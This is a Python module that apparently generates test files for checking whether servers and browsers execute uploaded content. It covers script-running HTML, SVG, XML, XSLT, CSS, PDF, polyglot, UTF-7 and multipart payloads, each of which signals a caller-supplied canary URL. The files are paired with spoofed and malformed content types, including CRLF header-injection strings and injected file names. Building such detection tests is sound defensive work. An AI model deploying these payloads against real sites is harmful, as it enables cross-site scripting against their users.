"""Files that run something when a browser takes them for what they are, and the types under which they are sent."""

from itertools import chain


def hostile(canary: str) -> dict[str, tuple[str, bytes]]:
    """Return by name each file's own type and its bytes; what runs asks `canary` for its name, and opens a dialog."""
    return {name: (kind, text.encode("latin-1")) for name, (kind, text) in _texts(canary).items()}


def script(canary: str, name: str) -> str:
    where = f"{canary}/ran/{name}"
    return (
        f"try{{fetch('{where}',{{mode:'no-cors'}})}}catch(e){{}};try{{new Image().src='{where}'}}catch(e){{}};alert(1)"
    )


def _texts(canary: str) -> dict[str, tuple[str, str]]:
    def run(name: str) -> str:
        return script(canary, name)

    xslt = (
        '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
        f"<html><script>{run('xslt')}</script></html></x:template></x:stylesheet>"
    )
    page = f'<!doctype html><script>{run("html")}</script><img src=x onerror="{run("html")}">'
    return {
        "html": ("text/html", f"{page}<iframe src=\"javascript:{run('html')}\"></iframe><img src={canary}/ran/img>"),
        "svg": ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{run("svg")}]]></script></svg>'),
        "js": ("text/javascript", run("js")),
        "xml": (
            "application/xml",
            f'<?xml version="1.0"?><h:script xmlns:h="http://www.w3.org/1999/xhtml"><![CDATA[{run("xml")}]]></h:script>',
        ),
        "xhtml": (
            "application/xhtml+xml",
            f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[{run("xhtml")}]]></script></body></html>',
        ),
        "xslt": ("text/xml", f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#t"?>{xslt}'),
        "css": ("text/css", f"@import '{canary}/ran/css'; * {{ background: url('{canary}/ran/css') }}"),
        "pdf": ("application/pdf", _pdf(f"app.alert(1);app.launchURL('{canary}/ran/pdf',true)", f"{canary}/ran/pdf")),
        "gif-and-js": ("image/gif", f"GIF89a=0;{run('gif-and-js')}"),
        "utf-7": ("text/html; charset=utf-7", f"+ADw-script+AD4-{run('utf-7')}+ADw-/script+AD4-"),
        "multi": ("multipart/x-mixed-replace;boundary=x", f"--x\r\nContent-Type: text/html\r\n\r\n{page}\r\n--x--"),
        "mhtml": (
            "multipart/related",
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type=\"text/html\"\r\n\r\n"
            f"--x\r\nContent-Type: text/html\r\nContent-Location: {canary}/\r\n\r\n{page}\r\n--x--",
        ),
        "late": ("text/plain", "\n" * 2000 + page),
    }  # fmt: skip


LIES = (
    "text/html", "TEXT/HTML", " text/html", "text/html; charset=utf-7", "text/html\t;x", "image/svg+xml", "text/xml",
    "application/xml", "application/xhtml+xml", "text/xsl", "application/rss+xml", "application/pdf",
    "text/javascript", "application/javascript", "application/ecmascript", "application/x-javascript", "text/css",
    "image/png", "image/gif", "image/x-icon", "text/plain", "application/json", "video/mp4", "audio/mpeg",
    "application/octet-stream", "image/png, text/html", "text/plain;x=\",\", text/html", "image/png\r\nX: y",
    "image/png\r\nContent-Type: text/html\r\nX: y", "image/png\r\n\r\n<script>alert(1)</script>", "text/plain\x00",
    "multipart/x-mixed-replace;boundary=x", "multipart/related", "message/rfc822", "application/x-mimearchive",
    "text/cache-manifest", "application/manifest+json", "application/webbundle", "application/wasm", "text/vtt",
    "text/x-component", "application/x-shockwave-flash", "x", "/", "*/*", "text/", "html", "ü/ü",
)  # fmt: skip
FEW = ("text/html", "image/svg+xml", "application/pdf", "text/javascript", "image/png", "text/plain", "x")
NAMES = ("x.html", "x.svg", "x.png", "x.html.png", "x.js", "x.pdf", "x.xhtml", "x.mhtml", "x", '"; x="x.html')


def cases(canary: str) -> list[tuple[str, bytes, str, str]]:
    """Return what is sent: payload, its bytes, its stated type, its name."""
    told = []
    for payload, (own, data) in hostile(canary).items():
        lies = LIES if payload in ("html", "svg", "js", "xml") else FEW
        told += [(payload, data, kind) for kind in dict.fromkeys(chain((own,), lies))]
    return [(payload, data, kind, NAMES[n % len(NAMES)]) for n, (payload, data, kind) in enumerate(told)]


def _pdf(run: str, where: str) -> str:
    """Return a document that runs a script as it is opened."""
    parts = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (" + where + ") >> >> >>",
        f"<< /S /JavaScript /JS ({run.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>",
    ]
    text, offsets = "%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        offsets.append(len(text))
        text += f"{number} 0 obj\n{part}\nendobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    return (
        f"{text}xref\n0 5\n0000000000 65535 f \n{table}trailer << /Size 5 /Root 1 0 R >>\nstartxref\n{len(text)}\n%%EOF"
    )
